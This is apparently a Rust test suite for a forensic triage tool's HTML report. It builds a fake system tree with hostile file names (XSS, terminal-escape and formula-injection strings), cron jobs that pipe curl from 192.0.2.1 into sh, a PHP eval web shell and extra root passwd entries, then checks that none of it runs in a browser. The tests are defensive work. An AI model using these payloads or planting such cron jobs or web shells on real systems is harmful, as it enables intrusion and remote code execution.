//! The report in a real browser: hostile names show no raw byte and run no script; many facts stay usable.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    reason = "a test"
)]

use calma_testkit::browser::Browser;
use calma_testkit::{binaries, skip_without_root};
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

/// What a browser, a terminal or a table program might take for more than a name.
const NAMES: &[&[u8]] = &[
    b"<script>owned=1<\x01script>",
    b"<img src=x onerror=owned=2>",
    b"\"><svg onload=owned=3>",
    b"'-owned=4-'",
    b"]]>--><!-- <script>",
    b"\x1b[2J\x1b]0;owned\x07",
    b"line\nbreak\rreturn\ttab",
    b"\xff\xfe\x80bad",
    "right\u{202e}to\u{2066}left\u{2028}line\u{200b}".as_bytes(),
    b"=cmd|'calc'!A0",
    b"javascript:owned=5",
    b"&lt;b&gt;&#60;i&#62;",
    b"</title></style><iframe srcdoc=x>",
    b"${owned=6}{{owned=7}}\\u003cscript",
];

fn put(path: &Path, text: &[u8], mode: u32) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// A tree whose names are all hostile, with things that detectors have to say something about.
fn hostile(root: &Path) {
    let mut passwd = b"root:x:0:0::/root:/bin/sh\n".to_vec();
    for name in NAMES {
        let plain: Vec<u8> = name.iter().map(|byte| if *byte == b'/' { b'_' } else { *byte }).collect();
        let name = OsStr::from_bytes(&plain);
        let mut job = b"* * * * * root /dev/shm/".to_vec();
        job.extend_from_slice(&plain);
        job.extend_from_slice(b" | curl -s http://192.0.2.1/x | sh\n");
        put(&root.join("etc/cron.d").join(name), &job, 0o644);
        put(&root.join("var/tmp").join(name), b"\x7fELF\x02\x01\x01", 0o4755);
        put(
            &root.join("var/www/html/uploads").join([plain.as_slice(), b".php"].concat().as_slice().as_os()),
            b"<?php eval($_POST['x']);",
            0o644,
        );
        let line: Vec<u8> = plain.iter().copied().filter(|byte| !b":\n".contains(byte)).collect();
        passwd.extend_from_slice(&line);
        passwd.extend_from_slice(b":x:0:0:");
        passwd.extend_from_slice(&line);
        passwd.extend_from_slice(b":/root:/bin/sh\n");
    }
    put(&root.join("etc/passwd"), &passwd, 0o644);
    put(&root.join("usr/bin/true"), b"", 0o755);
    put(&root.join("etc/hostname"), b"<b>web1</b>\n", 0o644);
}

trait AsOs {
    fn as_os(&self) -> &OsStr;
}

impl AsOs for [u8] {
    fn as_os(&self) -> &OsStr {
        OsStr::from_bytes(self)
    }
}

/// A folder that goes with the test.
struct Work(PathBuf);

impl Work {
    fn new(name: &str) -> Self {
        let work = std::env::temp_dir().join(format!("calma-report-{name}-{}", std::process::id()));
        fs::create_dir_all(&work).unwrap();
        Self(work)
    }
}

impl Drop for Work {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn calma(args: &[&OsStr]) -> i32 {
    let output = Command::new(binaries::calma()).args(args).output().unwrap();
    let code = output.status.code().unwrap();
    assert!(matches!(code, 0 | 1 | 3), "{output:?}");
    code
}

/// No byte of the page is one that a terminal or browser would not show as itself.
fn printable(page: &Path) {
    let text = String::from_utf8(fs::read(page).unwrap()).unwrap();
    let bad = text.chars().find(|c| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
    });
    assert_eq!(bad, None, "{}", page.display());
}

/// Everything is opened, drawn and read; nothing but the page's own script has run.
fn unharmed(browser: &mut Browser, page: &Path) {
    browser.open(page);
    assert_eq!(browser.run("document.documentElement.dataset.ready"), "yes");
    browser.run("document.querySelectorAll('details').forEach(one => { one.open = true; })");
    browser.run("new Promise(done => setTimeout(done, 300))");
    browser.run("document.querySelectorAll('td.open button').forEach(one => one.click())");
    browser.run("document.querySelectorAll('a.record').forEach(one => one.click())");
    browser.run("{ const find = document.getElementById('find'); if (find) { find.value = 'script'; find.dispatchEvent(new Event('input')); } }");
    browser.run("new Promise(done => setTimeout(done, 500))");
    assert_eq!(browser.run("typeof owned"), "undefined");
    let foreign = "document.querySelectorAll('img,svg,iframe,object,embed,link,base,form,b,i,[onerror],[onload],a[href^=\"javascript\"]').length";
    assert_eq!(browser.run(foreign), 0);
    let scripts = "[...document.scripts].filter(one => one.type !== 'application/json').length";
    assert_eq!(browser.run(scripts), 1);
    let raw = r"/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f]/.test(document.body.textContent)";
    assert_eq!(browser.run(raw), false);
    assert_eq!(browser.complaints(), Vec::<String>::new());
    // The policy is in force: what is put into the page later does not run either.
    let refused = "(() => { try { const one = document.createElement('script'); one.text = 'owned = 8'; document.body.append(one); } catch { return 'refused'; } return typeof owned; })()";
    assert!(["refused", "undefined"].contains(&browser.run(refused).as_str().unwrap()));
}

#[test]
fn hostile_names_are_shown_and_never_run() {
    if skip_without_root("hostile_names_are_shown_and_never_run") {
        return;
    }
    let work = Work::new("hostile");
    let (root, case) = (work.0.join("root"), work.0.join("case"));
    hostile(&root);
    let code = calma(&[
        "triage".as_ref(),
        "--json".as_ref(),
        "--root".as_ref(),
        root.as_ref(),
        "--case".as_ref(),
        case.as_ref(),
    ]);
    assert_eq!(code, 1, "something must have been found");
    let (redacted, index) = (work.0.join("redacted.html"), work.0.join("index.html"));
    calma(&["report".as_ref(), case.as_ref(), "--out".as_ref(), redacted.as_ref()]);
    calma(&[
        "report".as_ref(),
        case.as_ref(),
        case.as_ref(),
        "--no-redact".as_ref(),
        "--out".as_ref(),
        index.as_ref(),
    ]);
    let mut browser = Browser::start(&work.0);
    for page in [case.join("derived/report.html"), redacted, index] {
        printable(&page);
        unharmed(&mut browser, &page);
    }
    // The names are there, as text.
    browser.open(&case.join("derived/report.html"));
    let shown = browser.run("document.body.textContent.includes('<img src=x onerror=owned=2>')");
    assert_eq!(shown, true);
}

#[test]
fn the_important_parts_need_no_script() {
    if skip_without_root("the_important_parts_need_no_script") {
        return;
    }
    let work = Work::new("plain");
    let (root, case) = (work.0.join("root"), work.0.join("case"));
    hostile(&root);
    calma(&[
        "triage".as_ref(),
        "--json".as_ref(),
        "--root".as_ref(),
        root.as_ref(),
        "--case".as_ref(),
        case.as_ref(),
    ]);
    let mut browser = Browser::start(&work.0);
    browser.ask("Emulation.setScriptExecutionDisabled", serde_json::json!({"value": true}));
    browser.ask(
        "Page.navigate",
        serde_json::json!({"url": format!("file://{}", case.join("derived/report.html").display())}),
    );
    std::thread::sleep(std::time::Duration::from_secs(2));
    let tree = browser.ask("DOM.getDocument", serde_json::json!({"depth": -1})).to_string();
    for part in ["story-1", "What it stands on", "Why it matters", "Not seen", "Next"] {
        assert!(tree.contains(part), "{part}");
    }
}

#[test]
fn many_facts_stay_usable() {
    if skip_without_root("many_facts_stay_usable") {
        return;
    }
    let work = Work::new("many");
    let case = work.0.join("case");
    calma_testkit::big_case(&case, 30_000);
    calma(&["report".as_ref(), case.as_ref()]);
    let page = case.join("derived/report.html");
    let mut browser = Browser::start(&work.0);
    browser.open(&page);
    browser.run("document.querySelectorAll('details.table').forEach(one => { one.open = true; })");
    browser.run("new Promise(done => setTimeout(done, 1000))");
    // Only a page of rows is ever drawn.
    let rows = browser.run("document.querySelectorAll('tbody tr').length").as_u64().unwrap();
    assert!((100..1_000).contains(&rows), "{rows} rows drawn");
    assert_eq!(browser.run("document.querySelector('#table-file .count').textContent"), "18,000");
    let filter = "(() => { const input = document.querySelector('#table-file .tools input'); input.value = 'template-29995.conf'; \
                  input.dispatchEvent(new Event('input')); return new Promise(done => setTimeout(() => done(document.querySelectorAll('#table-file tbody tr').length), 800)); })()";
    assert_eq!(browser.run(filter), 1);
    // The process tree is indented below its parents.
    assert_eq!(browser.run("document.querySelectorAll('#table-process .depth-1').length > 0"), true);
    assert_eq!(browser.complaints(), Vec::<String>::new());
}
